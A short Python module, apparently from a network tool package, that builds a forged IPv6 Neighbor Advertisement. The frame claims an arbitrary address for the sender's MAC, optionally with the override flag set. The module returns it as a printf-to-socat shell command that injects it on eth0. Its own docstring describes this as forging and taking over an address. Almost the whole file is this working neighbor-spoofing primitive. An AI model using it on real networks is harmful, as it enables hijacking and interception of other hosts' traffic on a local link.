"""Neighbor Discovery by hand, as who forges it sends it, and who takes over an address."""

from . import families

# What a frame to all nodes of the link is addressed to.
TO_ALL = "33:33:00:00:00:01"
_ADVERTISEMENT, _OVERRIDE = 136, 0x20
_TARGET_LINK_LAYER = 2
_ICMPV6, _FROM_THE_LINK = 58, 255


def advertisement(sender, address, override, to=TO_ALL):
    """A frame to all nodes of the link, or to one Ethernet address, that says that the address is at the sender, as a
    command that sends it."""
    ours, theirs = (bytes.fromhex(mac.replace(":", "")) for mac in (sender, to))
    source, destination = families.packed(address), families.packed("ff02::1")
    # Not asked for; the target, and where it is.
    body = bytes([_ADVERTISEMENT, 0, 0, 0, _OVERRIDE if override else 0, 0, 0, 0])
    body += source + bytes([_TARGET_LINK_LAYER, 1]) + ours
    body = families.with_icmpv6_checksum(source, destination, body)
    header = bytes([0x60, 0, 0, 0, 0, len(body), _ICMPV6, _FROM_THE_LINK]) + source + destination
    frame = theirs + ours + bytes.fromhex("86dd") + header + body
    escaped = "".join(f"\\x{byte:02x}" for byte in frame)
    return f"printf '{escaped}' | socat -u - INTERFACE:eth0"
